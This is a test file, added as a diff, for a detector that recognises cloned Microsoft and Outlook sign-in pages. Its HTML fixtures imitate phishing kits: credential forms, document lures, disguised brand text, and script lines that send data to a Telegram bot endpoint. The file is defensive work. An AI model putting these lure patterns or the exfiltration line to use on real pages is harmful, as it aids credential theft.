@@ -1,0 +1,330 @@
+import { parseHTML } from 'linkedom';
+import { describe, expect, it } from 'vitest';
+import { analyseSavedPage } from '../../../scripts/lib/saved-page';
+import { buildPageSnapshot } from '../../../src/content/page-snapshot';
+import { analysePage, PageSnapshotSchema } from '../../../src/core/detection';
+import { readableText } from '../../../src/core/detection/page-text';
+
+function snapshot(html: string, url: string) {
+  const { document } = parseHTML(html);
+  return buildPageSnapshot(document as unknown as Document, {}, url);
+}
+
+function verdict(html: string, url = 'https://portal.example.net/login') {
+  const result = analysePage(url, snapshot(html, url));
+  return { verdict: result.verdict, codes: result.reasons.map((r) => r.code) };
+}
+
+const page = (title: string, body: string) =>
+  `<!DOCTYPE html><html><head><title>${title}</title></head><body>${body}</body></html>`;
+const EMAIL = '<input type="email" name="email" placeholder="Email">';
+const PASSWORD = '<input type="password" name="password" placeholder="Password">';
+
+describe('readableText', () => {
+  it.each([
+    ['0ffice 365', 'office 365'],
+    ['Micr0soft acc0unt', 'microsoft account'],
+    ['M i c r o s o f t', 'microsoft'],
+    ['Mi\u200bcro\u200dsoft', 'microsoft'],
+    ['\u0130nbox', 'inbox'],
+    ['\u041eutl\u043e\u043ek', 'outlook'],
+    ['\uff2d\uff49\uff43\uff52\uff4f\uff53\uff4f\uff46\uff54', 'microsoft'],
+    ['Mot de passe oubli\u00e9', 'mot de passe oublie'],
+    ['Office 365 costs 10 dollars', 'office 365 costs 10 dollars'],
+  ])('reads %j as %j', (input, expected) => {
+    expect(readableText(input)).toBe(expected);
+  });
+});
+
+describe('page snapshot: kit marks', () => {
+  it('names where scripts send data, script-built markup and logo colours, never the code', () => {
+    const html = page(
+      'x',
+      `<script>var token="123:SECRET-TOKEN";fetch("https://api.telegram.org/bot"+token+"/sendMessage");
+       document.write(unescape("%3Cp%3E"));</script>
+       <svg><rect fill="#F25022"/><rect fill="#7FBA00"/><rect fill="#00A4EF"/><rect fill="#FFB900"/></svg>
+       <i class="fa fa-windows"></i>${PASSWORD}`,
+    );
+    const snap = snapshot(html, 'https://kit.example.net/');
+    expect(PageSnapshotSchema.safeParse(snap).success).toBe(true);
+    expect(snap.marks).toEqual(
+      expect.arrayContaining([
+        'api.telegram.org',
+        'document.write',
+        'unescape',
+        '#f25022',
+        '#7fba00',
+        '#00a4ef',
+        '#ffb900',
+        'icon-font',
+      ]),
+    );
+    expect(JSON.stringify(snap)).not.toContain('SECRET');
+  });
+
+  it('sees inputs placed over a background picture, inline or by style sheet', () => {
+    const inline = page(
+      '',
+      `<div style="background-image:url('shot_o365.png')"><div style="position:absolute;top:40px">${EMAIL}</div></div>`,
+    );
+    const look = snapshot(inline, 'https://a.example/').look;
+    expect(look?.backgrounds).toBeGreaterThan(0);
+    expect(look?.placedInputs).toBe(1);
+    const plain = snapshot(page('', `<div>${EMAIL}${PASSWORD}</div>`), 'https://a.example/');
+    expect(plain.look).toEqual({ backgrounds: 0, placedInputs: 0 });
+    const sheet = `<html><head><style>body{background:url(img/bg.jpg)}.x{position:absolute;top:9px}</style></head>
+      <body><input class="x" type="text" name="u"><input class="x" type="password" name="p"></body></html>`;
+    const snap = snapshot(sheet, 'https://a.example/');
+    expect(snap.look?.backgrounds).toBeGreaterThan(0);
+    expect(snap.look?.placedInputs).toBe(2);
+    expect(snap.assetFiles).toContain('bg.jpg');
+  });
+
+  it('counts links and bounds the marks', () => {
+    const links = '<a href="/a">a</a>'.repeat(50);
+    const scripts = Array.from({ length: 40 }, (_, i) => `<script>x${i}="#f25022"</script>`);
+    const snap = snapshot(page('', `${links}${scripts.join('')}`), 'https://a.example/');
+    expect(snap.links).toBe(50);
+    expect((snap.marks ?? []).length).toBeLessThanOrEqual(24);
+  });
+});
+
+const OFFICE_CARD = page(
+  'Microsoft 365',
+  `<img src="img/logo.png" alt=""><h1>Microsoft 365</h1><form action="login.php" method="post">
+   <p>Sign in</p>${EMAIL}${PASSWORD}<a href="#">Forgot password?</a><button>Sign in</button></form>`,
+);
+const OWA_COPY = page(
+  'Outlook',
+  `<form action="owa.php" method="post"><h1>Outlook</h1><label>Domain\\user name:</label>
+   <input type="text" name="username" id="username"><label>Password:</label>${PASSWORD}
+   <input type="hidden" name="destination"><input type="hidden" name="flags"><input type="hidden" name="forcedownlevel">
+   <button>sign in</button></form>`,
+);
+const ON_PREM_OWA = OWA_COPY.replace('action="owa.php"', 'action="/owa/auth.owa"');
+
+describe('the page model', () => {
+  it('flags a plain "Microsoft 365" email-and-password card, naming it a sign-in copy', () => {
+    expect(verdict(OFFICE_CARD).codes[0]).toBe('cloned-sign-in-page');
+    const minimal = page(
+      'Login | Microsoft Office',
+      `<h2>Office 365</h2><form action="post.php">${EMAIL}${PASSWORD}<button>Sign In</button></form>`,
+    );
+    expect(verdict(minimal).codes[0]).toBe('cloned-sign-in-page');
+  });
+
+  it('flags an email-only "secure document" first step that names OneDrive', () => {
+    const step = page(
+      'Shared Document',
+      `<p>Microsoft OneDrive</p><p>You have received a secure document. Enter your email to view.</p>
+       <form action="next.php">${EMAIL}<button>Next</button></form>`,
+    );
+    expect(verdict(step).codes[0]).toBe('shared-document-lure');
+  });
+
+  it('flags an Outlook Web App copy and says so first', () => {
+    const result = verdict(OWA_COPY, 'https://mail-update.example.net/owa/');
+    expect(result).toMatchObject({ verdict: 'lookalike' });
+    expect(result.codes[0]).toBe('owa-copy');
+  });
+
+  it('leaves an organisation’s own OWA alone, but not one that posts to a chat bot', () => {
+    const own = verdict(ON_PREM_OWA, 'https://mail.contoso.example/owa/auth/logon.aspx');
+    expect(own).toEqual({ verdict: 'other', codes: ['organisation-sign-in-page'] });
+    const bot = ON_PREM_OWA.replace(
+      '</form>',
+      '</form><script>fetch("https://api.telegram.org/bot1:AA/sendMessage")</script>',
+    );
+    const result = verdict(bot, 'https://mail.contoso.example/owa/auth/logon.aspx');
+    expect(result.verdict).toBe('lookalike');
+    expect(result.codes).toContain('sends-to-outside-service');
+  });
+
+  it.each([
+    ['/owa/auth/owaauth.dll', 'https://mail.contoso.example/owa/auth/logon.aspx'],
+    [
+      '/owa/auth/expiredpassword.aspx',
+      'https://mail.contoso.example/owa/auth/expiredpassword.aspx',
+    ],
+    ['/exchweb/bin/auth/owaauth.dll', 'https://mail.contoso.example/exchweb/bin/auth/owalogon.asp'],
+  ])('knows Exchange’s own endpoint %s', (action, url) => {
+    expect(verdict(OWA_COPY.replace('action="owa.php"', `action="${action}"`), url).verdict).toBe(
+      'other',
+    );
+  });
+
+  it('is not fooled by a kit posting to a script under /owa/ or a relay named for OWA', () => {
+    const php = OWA_COPY.replace('action="owa.php"', 'action="/owa/p.php"');
+    expect(verdict(php, 'https://mail.contoso.example/owa/').verdict).toBe('lookalike');
+    expect(verdict(ON_PREM_OWA, 'https://mail-contoso-com.owa-sso.example/owa/').verdict).toBe(
+      'lookalike',
+    );
+  });
+
+  it('leaves AD FS alone', () => {
+    const adfs = page(
+      'Sign In',
+      `<form method="post" action="/adfs/ls/?client-request-id=1"><p>Sign in with your organizational account</p>
+       <input type="email" name="UserName" id="userNameInput"><input type="password" name="Password">
+       <input type="hidden" name="AuthMethod" value="FormsAuthentication"><span>Sign in</span></form>
+       <p>© 2024 Microsoft</p>`,
+    );
+    expect(verdict(adfs, 'https://sts.fabrikam.example/adfs/ls/?wa=wsignin1.0').verdict).toBe(
+      'other',
+    );
+  });
+
+  it('flags an email-only "shared document" first step as a document lure', () => {
+    const lure = page(
+      'OneDrive',
+      `<div style="filter:blur(4px)"><img src="doc.png"></div><h2>OneDrive</h2>
+       <p>Anna shared a file with you. Sign in to view the document.</p><form action="next.php">${EMAIL}<button>Next</button></form>`,
+    );
+    expect(verdict(lure).codes[0]).toBe('shared-document-lure');
+  });
+
+  it('flags a screenshot kit by its layout when something names Microsoft', () => {
+    const kit = `<html><head><title>Sign in to your account</title><style>body{background:url(img/outlook_bg.jpg)}
+      .x{position:absolute;left:400px}</style></head><body><form action="p.php">
+      <input class="x" type="text" name="u"><input class="x" type="password" name="p"></form></body></html>`;
+    expect(verdict(kit).codes[0]).toBe('screenshot-sign-in-page');
+    // The same layout with nothing Microsoft about it says nothing about Microsoft.
+    expect(verdict(kit.replace('outlook_bg', 'bg')).verdict).toBe('other');
+  });
+
+  it.each([
+    [
+      'German',
+      'Microsoft-Konto',
+      '<h1>Anmelden</h1><p>Microsoft-Konto</p><p>Kennwort eingeben</p><a href="#">Kennwort vergessen?</a>',
+    ],
+    [
+      'Portuguese',
+      'Conta Microsoft',
+      '<h1>Entrar</h1><p>Conta Microsoft</p><p>Inserir senha</p><a href="#">Esqueci minha senha</a>',
+    ],
+    [
+      'French',
+      'Compte Microsoft',
+      '<h1>Se connecter</h1><p>Entrez le mot de passe</p><p>Rester connecté ?</p>',
+    ],
+  ])('flags a %s "Microsoft account" form', (_, title, body) => {
+    expect(
+      verdict(page(title, `<form action="x.php">${body}${EMAIL}${PASSWORD}</form>`)).verdict,
+    ).toBe('lookalike');
+  });
+
+  it('reads through disguised text and says the page hides Microsoft’s name', () => {
+    const disguised = page(
+      'Sign in',
+      `<h1>Mi\u200bcro\u200bsoft</h1><p>S\u0456gn in to your acc\u043eunt</p>${EMAIL}${PASSWORD}<p>Forgot password?</p>`,
+    );
+    const result = verdict(disguised);
+    expect(result.verdict).toBe('lookalike');
+    expect(result.codes).toContain('disguised-text');
+  });
+
+  it.each([
+    ['written backwards', '<h1 style="unicode-bidi:bidi-override;direction:rtl">tfosorciM</h1>'],
+    ['drawn as SVG text', '<svg><text x="0" y="20">Microsoft</text></svg>'],
+    ['generated by CSS', '<style>.b::before{content:"Microsoft"}</style><h1 class="b"></h1>'],
+  ])('finds Microsoft’s name %s and calls it disguised', (_, name) => {
+    const result = verdict(
+      page('Sign in', `${name}<p>Sign in</p>${EMAIL}${PASSWORD}<a href="#">Forgot my password</a>`),
+    );
+    expect(result.verdict).toBe('lookalike');
+    expect(result.codes).toContain('disguised-text');
+  });
+
+  it('flags a fake browser window showing Microsoft’s address', () => {
+    const bitb = page(
+      'Sign in',
+      `<div class="window"><div class="bar">https://login.microsoftonline.com/common/oauth2/authorize</div>
+       <h1>Sign in</h1>${EMAIL}${PASSWORD}</div>`,
+    );
+    expect(verdict(bitb).codes[0]).toBe('fake-browser-window');
+  });
+
+  it('reads misspelt Microsoft names in the address path', () => {
+    const card = page('Sign in', `<p>Outlook</p>${EMAIL}${PASSWORD}`);
+    const result = verdict(card, 'https://files.example.net/login/microosoftonline/com/step2.php');
+    expect(result.verdict).toBe('lookalike');
+    expect(result.codes).toContain('microsoft-name-in-address');
+  });
+
+  it('lets a Microsoft name in the address lower the bar', () => {
+    const card = page('Sign in', `<p>Outlook</p>${EMAIL}${PASSWORD}`);
+    expect(verdict(card, 'https://files.example.net/docs/').verdict).toBe('other');
+    const result = verdict(card, 'https://files.example.net/office365/');
+    expect(result.verdict).toBe('lookalike');
+    expect(result.codes).toContain('microsoft-name-in-address');
+  });
+});
+
+describe('the page model never flags', () => {
+  it('a third-party login with a "Sign in with Microsoft" button beside its own form', () => {
+    const sso = page(
+      'Sign in · Northwind CRM',
+      `<h1>Sign in to Northwind CRM</h1><form action="/users/sign_in" method="post">
+       <input type="text" name="user[login]" autocomplete="username">${PASSWORD}
+       <a href="/password/new">Forgot your password?</a><button>Sign in</button></form>
+       <p>or sign in with</p><a href="/auth/azure"><img src="microsoft-logo.svg" alt="Microsoft"> Sign in with Microsoft</a>
+       <a href="/auth/office365">Office 365</a>`,
+    );
+    expect(verdict(sso, 'https://crm.northwind.example/users/sign_in').verdict).toBe('other');
+  });
+
+  it('an article about Microsoft sign-in with a newsletter box', () => {
+    const article = page(
+      'How to sign in to your Microsoft account',
+      `<article><h1>How to sign in to your Microsoft account</h1><p>Go to the Microsoft account page, choose
+       Sign in, then Enter password. If you see "Stay signed in?", pick Yes on your own computer.</p></article>
+       <form action="/subscribe"><p>Get our newsletter</p><input type="email" name="EMAIL" id="mce-EMAIL"><button>Subscribe</button></form>`,
+    );
+    expect(verdict(article, 'https://tips.example.org/microsoft-sign-in').verdict).toBe('other');
+  });
+
+  it('webmail that mentions Outlook', () => {
+    const roundcube = page(
+      'Webmail :: Welcome',
+      `<form action="./?_task=login" method="post"><h1>Roundcube Webmail</h1><p>Use Outlook or this page to read your mail.</p>
+       <input type="text" name="_user" id="rcmloginuser"><input type="password" name="_pass" id="rcmloginpwd">
+       <button>Login</button></form>`,
+    );
+    expect(verdict(roundcube, 'https://mail.example.org/').verdict).toBe('other');
+  });
+
+  it('a page whose only Microsoft-like field name is "passwd" (Comcast uses it too)', () => {
+    const comcast = page(
+      'Sign in to XFINITY',
+      `<form action="login.php"><input type="text" name="user"><input type="password" name="passwd">
+       <label>Stay signed in</label><button>Sign In</button></form><p>© Comcast</p>`,
+    );
+    expect(verdict(comcast).verdict).toBe('other');
+  });
+
+  it('another brand’s phishing page', () => {
+    const google = page(
+      'Sign in - Google Accounts',
+      `<h1>Sign in</h1><p>Use your Google Account</p>${EMAIL}${PASSWORD}<a href="#">Forgot password?</a>
+       <script>fetch("https://api.telegram.org/bot1:AA/sendMessage")</script>`,
+    );
+    expect(verdict(google, 'https://accounts-google.example.net/').verdict).toBe('other');
+  });
+});
+
+describe('saved copies of Microsoft pages', () => {
+  it('reads the "saved from" and HTTrack comments a copied page keeps', () => {
+    for (const comment of [
+      '<!-- saved from url=(0062)https://login.microsoftonline.com/common/oauth2/authorize -->',
+      '<!-- Mirrored from login.live.com/login.srf by HTTrack Website Copier/3.x -->',
+    ]) {
+      const html = `${comment}<html><head><title>Sign in</title></head><body>${EMAIL}${PASSWORD}</body></html>`;
+      const result = analyseSavedPage('https://portal.example.net/login', html);
+      expect(result.verdict, comment).toBe('lookalike');
+      expect(result.reasons.map((r) => r.code)).toContain('saved-copy-of-microsoft-page');
+    }
+    const other = `<!-- saved from url=(0030)https://shop.example.com/login --><html><body>${EMAIL}${PASSWORD}</body></html>`;
+    expect(analyseSavedPage('https://portal.example.net/login', other).verdict).toBe('other');
+  });
+});
